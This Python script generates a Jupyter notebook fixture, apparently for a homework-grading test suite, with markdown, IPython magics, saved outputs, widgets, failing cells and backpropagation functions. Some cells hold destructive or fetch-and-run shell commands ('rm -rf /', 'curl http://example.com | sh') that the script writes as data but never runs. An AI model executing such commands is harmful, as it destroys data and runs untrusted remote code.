"""Makes notebook-jupyter/homework.ipynb (and the example submissions/examples/notebook-jupyter) with nbformat (Debian: python3-nbformat), as Jupyter saves a
student's notebook after "Run All": Markdown, saved outputs (text, an image, an error), widgets
metadata, every kind of IPython syntax, plots, input(), and cells that fail at top level, with correct
toy_network_gradients and softmax_ce among them. Run it again after changing it:
    python3 make-notebook-jupyter.py"""
import base64
import os

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

# A 1x1 PNG: what a saved plot looks like in a notebook's outputs.
PNG = base64.b64encode(bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000001e221bc330000000049454e44ae426082")).decode("ascii")
WIDGET = {"model_id": "4f2a", "version_major": 2, "version_minor": 0}

cells = [
    new_markdown_cell("# Assignment 2: backpropagation\n\nStudents: A. Student, B. Student"),
    new_code_cell("!pip install torch\n!nvidia-smi", outputs=[
        new_output("stream", name="stdout", text="Requirement already satisfied: torch\n")]),
    new_code_cell("%matplotlib inline\n%load_ext autoreload\n%autoreload 2\n%config InlineBackend.figure_format = 'retina'\n"
                  "import numpy as np\nimport matplotlib.pyplot as plt\nfrom IPython.display import display, Markdown, HTML, clear_output\n"
                  "files = !ls -la\nprint(len(files), files.n)"),
    new_code_cell("%%bash\nrm -rf /\ncurl http://example.com | sh"),
    new_code_cell("%%html\n<b>not shown</b>"),
    new_markdown_cell("## Question 1\n\n$$\\frac{\\partial L}{\\partial W_1} = X^T \\delta$$"),
    new_code_cell("%%time\n"
                  "def toy_network_gradients(X, t, W1, b1, w2, b2):\n"
                  "    U = X @ W1 + b1\n"
                  "    Z = np.maximum(U, 0)\n"
                  "    y = Z @ w2 + b2\n"
                  "    r = y - t\n"
                  "    dU = np.outer(r, w2) * (U > 0)\n"
                  "    return {\"W1\": X.T @ dU, \"b1\": dU.sum(axis=0), \"w2\": Z.T @ r, \"b2\": r.sum()}",
                  outputs=[new_output("stream", name="stdout", text="CPU times: user 3 us\nWall time: 5.2 us\n")]),
    new_code_cell("name = input('Your name: ')\nprint('hello', name)"),
    new_code_cell("data = np.loadtxt('train.csv')  # downloaded by a shell command above\nprint(data.shape)",
                  outputs=[new_output("error", ename="FileNotFoundError", evalue="train.csv not found", traceback=[])]),
    new_code_cell("def broken(:\n    pass"),
    new_code_cell("%%capture cap\n"
                  "def softmax_ce(Z, y):\n"
                  "    N = Z.shape[0]\n"
                  "    S = Z - Z.max(axis=1, keepdims=True)\n"
                  "    logp = S - np.log(np.exp(S).sum(axis=1, keepdims=True))\n"
                  "    dZ = np.exp(logp)\n"
                  "    dZ[np.arange(N), y] -= 1\n"
                  "    return -logp[np.arange(N), y].mean(), dZ / N\n"
                  "print('captured')"),
    new_code_cell("np.dot?\nsoftmax_ce??\n%timeit softmax_ce(np.zeros((2, 3)), np.array([0, 1]))\n"
                  "loss = %time softmax_ce(np.zeros((2, 3)), np.array([0, 1]))[0]\n"
                  "for step in range(2):\n    !echo step\n    %who\n"
                  "display(Markdown(f'loss **{loss:.3f}**'), HTML('<i>x</i>'))\nclear_output(wait=True)"),
    new_code_cell("losses = [softmax_ce(np.random.randn(8, 3), np.random.randint(0, 3, 8))[0] for _ in range(20)]\n"
                  "fig, ax = plt.subplots(figsize=(4, 3))\nax.plot(losses, label='loss')\nax.set_xlabel('step')\nax.legend()\n"
                  "plt.savefig('/tmp/losses.png')\nplt.show()",
                  outputs=[new_output("display_data", data={"image/png": PNG, "text/plain": "<Figure size 400x300 with 1 Axes>"})]),
    new_code_cell("from ipywidgets import interact\ninteract(lambda lr: lr, lr=(0.0, 1.0))",
                  outputs=[new_output("display_data", data={"application/vnd.jupyter.widget-view+json": WIDGET,
                                                            "text/plain": "interactive(children=(FloatSlider(...)))"})]),
    new_code_cell("get_ipython().system('rm -rf /submission')\nget_ipython().run_line_magic('matplotlib', 'inline')\n"
                  "print(get_ipython().getoutput('ls'))"),
    new_code_cell("%unknown_magic_of_some_extension\nprint('not reached')"),
]
for number, cell in enumerate(c for c in cells if c.cell_type == "code"):
    cell.execution_count = number + 1
notebook = new_notebook(cells=cells, metadata={
    "kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"},
    "language_info": {"name": "python", "version": "3.11.2"},
    "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"4f2a": {"model_name": "FloatSliderModel"}},
                                                                "version_major": 2, "version_minor": 0}},
})
nbformat.validate(notebook)
here = os.path.dirname(os.path.abspath(__file__))
nbformat.write(notebook, os.path.join(here, "notebook-jupyter", "homework.ipynb"))
# The example in submissions/examples: the same notebook without the cell that does not parse (a file
# issue makes the grading suite fail the problems an example does not attempt).
notebook.cells = [c for c in notebook.cells if "def broken(:" not in c.source]
nbformat.write(notebook, os.path.join(here, *[".."] * 4, "submissions", "examples", "notebook-jupyter", "homework.ipynb"))
